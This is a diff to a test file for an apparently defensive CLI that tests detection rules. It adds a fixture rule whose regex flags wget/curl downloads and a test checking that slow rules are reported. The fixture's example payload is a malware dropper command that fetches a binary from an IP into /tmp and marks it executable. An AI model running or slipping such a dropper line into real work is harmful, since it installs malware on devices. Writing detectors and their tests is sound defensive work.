@@ -41,6 +41,17 @@ const FAILING = `
       payload: "*1\\r\\n$4\\r\\nPING\\r\\n"
 `;
 
+/** A counted repeat after a word that recurs: RE2 tracks hundreds of positions at once. */
+const SLOW = `
+- id: local-slow-dropper
+  name: Download command
+  description: {en: Downloads a file., ja: ファイルをダウンロードする。}
+  intent: malware-download
+  match: {in: text, regex: '(?i)\\b(?:wget|curl)\\b[^\\n]{0,300}https?://'}
+  examples:
+    - {port: 23, payload: "cd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86\\r\\n"}
+`;
+
 function folder(name: string, files: Record<string, string>): string {
   const path = join(dir, name);
   mkdirSync(path);
@@ -67,6 +78,17 @@ describe('mitsu rules test', () => {
     expect(out.stderr).toBe('');
     expect(out.code).toBe(0);
     expect(out.stdout).toMatch(/^1 rules, 1 examples, 1 counter-examples: all pass/);
+  });
+
+  it('exits 1 naming a rule that is slow on hostile payloads, unless told not to time', () => {
+    const rules = folder('slow', { 'rules.yaml': SLOW });
+    const out = runCli(['rules', 'test', '--no-builtin', '--rules', rules]);
+    expect(out.code).toBe(1);
+    expect(out.stdout).toMatch(/^SLOW local-slow-dropper: [\d.]+ ms on the hostile payload "/m);
+    expect(out.stdout).toMatch(/counter-examples: \d+ slow \(rules version/);
+    const untimed = runCli(['rules', 'test', '--no-builtin', '--no-timing', '--rules', rules]);
+    expect(untimed.code).toBe(0);
+    expect(untimed.stdout).toContain('all pass');
   });
 
   it('exits 2 with one line naming the file, rule and key of a rule that does not load', () => {
